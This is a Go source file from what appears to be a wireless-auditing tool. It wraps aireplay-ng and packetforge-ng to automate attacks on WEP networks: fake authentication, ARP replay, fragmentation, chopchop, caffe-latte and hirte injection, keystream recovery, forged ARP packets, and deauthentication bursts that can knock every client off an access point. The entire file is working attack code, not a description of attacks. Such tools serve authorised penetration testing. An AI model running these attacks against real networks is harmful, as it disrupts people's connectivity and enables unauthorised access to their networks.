package tools

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/bytebuggy/bytebuggy/internal/attack"
	"github.com/bytebuggy/bytebuggy/pkg/wifi"
)

var (
	ErrNoKeystream = errors.New("no keystream file")
	ErrForgeFailed = errors.New("packet forge failed")
)

const (
	broadcastMAC  = "FF:FF:FF:FF:FF:FF"
	deauthTimeout = 10 * time.Second

	// Forged ARP requests go to the broadcast address.
	forgeSourceIP = "255.255.255.255"
	forgeDestIP   = "255.255.255.255"
)

var (
	arpStatusRe      = regexp.MustCompile(`got (\d+) ARP requests.*sent (\d+) packets.*?\((\d+) pps\)`)
	chopOffsetRe     = regexp.MustCompile(`Offset\s+(\d+)\s+\(\s*(\d+)% done\)`)
	keystreamBytesRe = regexp.MustCompile(`Trying to get (\d+) bytes of a keystream`)
	keystreamSavedRe = regexp.MustCompile(`Saving keystream in (\S+)`)
	sentPacketsRe    = regexp.MustCompile(`Sent (\d+) packets`)
)

// Aireplay wraps aireplay-ng and packetforge-ng as an attack.InjectionController.
// Keystream and forged files are written to its working directory.
type Aireplay struct {
	tool    *ExternalTool
	iface   string
	mac     string
	workDir string

	// PPS is the injection rate passed to -x.
	PPS int
	// DeauthCount is the number of deauth bursts per Deauth call.
	DeauthCount int
	// Fallback deauths when aireplay-ng is not installed.
	Fallback attack.Deauther
}

func NewAireplay(iface, mac, workDir string) *Aireplay {
	return &Aireplay{
		tool:        &ExternalTool{Name: "aireplay-ng", Required: false},
		iface:       iface,
		mac:         strings.ToUpper(mac),
		workDir:     workDir,
		PPS:         600,
		DeauthCount: 5,
	}
}

func (a *Aireplay) Available() bool {
	return a.tool.Exists()
}

// TechniqueArgs builds the aireplay-ng command line for one technique.
func (a *Aireplay) TechniqueArgs(req attack.InjectionRequest) ([]string, error) {
	bssid := req.Target.Key()
	pps := strconv.Itoa(a.PPS)

	var args []string
	switch req.Technique {
	case wifi.TechFakeAuth:
		// Re-associate rarely, keep-alive every 10 seconds.
		args = []string{"--fakeauth", "6000", "-o", "1", "-q", "10", "-a", bssid, "-h", a.mac}
		if req.Target.ESSIDKnown {
			args = append(args, "-e", req.Target.ESSID)
		}
		return append(args, a.iface), nil
	case wifi.TechARPReplay:
		args = []string{"--arpreplay", "-b", bssid, "-x", pps}
	case wifi.TechFragment:
		args = []string{"--fragment", "-b", bssid, "-x", pps, "-m", "100", "-F"}
	case wifi.TechChopChop:
		args = []string{"--chopchop", "-b", bssid, "-x", pps, "-m", "60", "-F"}
	case wifi.TechCaffeLatte:
		args = []string{"--caffe-latte", "-b", bssid, "-x", pps}
	case wifi.TechP0841:
		args = []string{"--interactive", "-b", bssid, "-c", broadcastMAC, "-t", "1", "-x", pps, "-F", "-p", "0841"}
	case wifi.TechHirte:
		args = []string{"--cfrag", "-b", bssid, "-x", pps}
	case wifi.TechForgedReplay:
		if req.ReplayFile == "" {
			return nil, fmt.Errorf("forged replay needs a replay file")
		}
		args = []string{"--interactive", "-r", req.ReplayFile, "-x", pps, "-F"}
	default:
		return nil, fmt.Errorf("unsupported technique %s", req.Technique)
	}

	if req.ClientMAC != "" {
		args = append(args, "-h", req.ClientMAC)
	}
	return append(args, a.iface), nil
}

// Start launches one technique in the working directory.
func (a *Aireplay) Start(ctx context.Context, req attack.InjectionRequest) (attack.InjectionHandle, error) {
	args, err := a.TechniqueArgs(req)
	if err != nil {
		return nil, err
	}
	proc, err := StartProcessIn(ctx, a.workDir, "aireplay-ng", args...)
	if err != nil {
		return nil, fmt.Errorf("aireplay %s: %w", req.Technique, err)
	}
	return &Injection{proc: proc, technique: req.Technique}, nil
}

// FakeAuth runs a single fake authentication and reports whether the AP
// accepted it within timeout.
func (a *Aireplay) FakeAuth(ctx context.Context, target *wifi.Target, timeout time.Duration) bool {
	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()

	args := []string{"--fakeauth", "0", "-T", "3", "-a", target.Key(), "-h", a.mac}
	if target.ESSIDKnown {
		args = append(args, "-e", target.ESSID)
	}
	args = append(args, a.iface)

	out, err := RunCapture(ctx, "aireplay-ng", args...)
	ok := strings.Contains(out, "Association successful")
	slog.Debug("fake authentication", "bssid", target.Key(), "ok", ok, "err", err)
	return ok
}

// Deauth sends a burst of deauthentication frames. An empty clientMAC
// broadcasts to every station on the AP.
func (a *Aireplay) Deauth(ctx context.Context, bssid, clientMAC, essid string) error {
	if !a.tool.Exists() && a.Fallback != nil {
		return a.Fallback.Deauth(ctx, bssid, clientMAC, essid)
	}

	ctx, cancel := context.WithTimeout(ctx, deauthTimeout)
	defer cancel()

	args := []string{"--deauth", strconv.Itoa(a.DeauthCount), "--ignore-negative-one", "-a", bssid}
	if clientMAC != "" {
		args = append(args, "-c", clientMAC)
	}
	if essid != "" {
		args = append(args, "-e", essid)
	}
	args = append(args, a.iface)

	if out, err := RunCapture(ctx, "aireplay-ng", args...); err != nil {
		return fmt.Errorf("aireplay deauth: %w: %s", err, lastLine(out))
	}
	return nil
}

// Keystream returns the newest .xor file in the working directory.
func (a *Aireplay) Keystream() (string, error) {
	matches, err := filepath.Glob(filepath.Join(a.workDir, "*.xor"))
	if err != nil {
		return "", err
	}
	var newest string
	var newestMod time.Time
	for _, m := range matches {
		info, err := os.Stat(m)
		if err != nil {
			continue
		}
		if newest == "" || info.ModTime().After(newestMod) {
			newest, newestMod = m, info.ModTime()
		}
	}
	if newest == "" {
		return "", ErrNoKeystream
	}
	return newest, nil
}

func (a *Aireplay) FindXor() (string, bool) {
	xor, err := a.Keystream()
	if err != nil {
		slog.Debug("keystream lookup", "dir", a.workDir, "err", err)
		return "", false
	}
	return xor, true
}

// ForgePacket builds an ARP request from a keystream with packetforge-ng and
// returns the path of the forged packet.
func (a *Aireplay) ForgePacket(ctx context.Context, xorFile, bssid, clientMAC string) (string, error) {
	if clientMAC == "" {
		clientMAC = a.mac
	}
	out := filepath.Join(a.workDir, "forged-arp.cap")
	_ = os.Remove(out)

	res, err := RunCapture(ctx, "packetforge-ng",
		"-0",
		"-a", bssid,
		"-h", clientMAC,
		"-k", forgeDestIP,
		"-l", forgeSourceIP,
		"-y", xorFile,
		"-w", out,
	)
	if err != nil || !strings.Contains(res, "Wrote packet") {
		return "", fmt.Errorf("%w: %s", ErrForgeFailed, lastLine(res))
	}
	// The keystream is spent; keep it from being found again.
	_ = os.Rename(xorFile, xorFile+".used")
	return out, nil
}

// Injection is a running aireplay-ng technique.
type Injection struct {
	proc      *Process
	technique wifi.WEPTechnique
}

func (i *Injection) Alive() bool {
	return i.proc.Alive()
}

func (i *Injection) Stop() error {
	return i.proc.Stop()
}

// Status condenses aireplay-ng's latest progress line.
func (i *Injection) Status() string {
	return injectionStatus(i.technique, i.proc.LastLine())
}

func injectionStatus(tech wifi.WEPTechnique, line string) string {
	if m := keystreamSavedRe.FindStringSubmatch(line); m != nil {
		return "keystream saved to " + filepath.Base(m[1])
	}
	switch tech {
	case wifi.TechChopChop:
		if m := chopOffsetRe.FindStringSubmatch(line); m != nil {
			return fmt.Sprintf("chopchop %s%% done", m[2])
		}
	case wifi.TechFragment:
		if m := keystreamBytesRe.FindStringSubmatch(line); m != nil {
			return fmt.Sprintf("fragment: getting %s bytes of keystream", m[1])
		}
	}
	if m := arpStatusRe.FindStringSubmatch(line); m != nil {
		return fmt.Sprintf("%s ARPs, sent %s (%s pps)", m[1], m[2], m[3])
	}
	if m := sentPacketsRe.FindStringSubmatch(line); m != nil {
		return fmt.Sprintf("sent %s packets", m[1])
	}
	if len(line) > 60 {
		line = line[:60]
	}
	return line
}
